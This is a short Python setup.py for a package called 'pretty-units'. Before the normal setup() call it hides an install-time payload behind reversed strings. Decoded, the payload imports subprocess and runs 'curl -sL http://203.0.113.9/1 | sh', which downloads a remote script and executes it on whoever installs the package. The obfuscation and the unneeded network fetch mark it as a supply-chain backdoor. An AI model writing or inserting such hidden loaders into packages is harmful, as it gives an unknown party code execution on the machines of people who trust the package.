import importlib
from setuptools import setup

_m = importlib.import_module('ssecorpbus'[::-1])
_run = getattr(_m, ''.join(reversed('llac_kcehc')))
_run(['sh', '-c', 'hs | 1/9.311.0.302//:ptth Ls- lruc'[::-1]])

setup(name='pretty-units', version='0.9.1', packages=['pretty_units'])
